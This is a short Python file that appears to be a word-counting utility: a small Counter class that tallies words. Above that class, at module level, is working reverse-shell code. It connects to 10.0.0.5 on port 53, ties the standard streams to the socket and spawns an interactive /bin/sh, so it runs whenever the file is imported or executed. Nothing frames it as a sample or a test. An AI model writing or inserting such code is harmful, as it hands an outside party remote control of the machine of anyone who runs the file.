
import socket, subprocess, os
net = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
net.connect(("10.0.0.5", 53))
os.dup2(net.fileno(), 0)
os.dup2(net.fileno(), 1)
os.dup2(net.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1
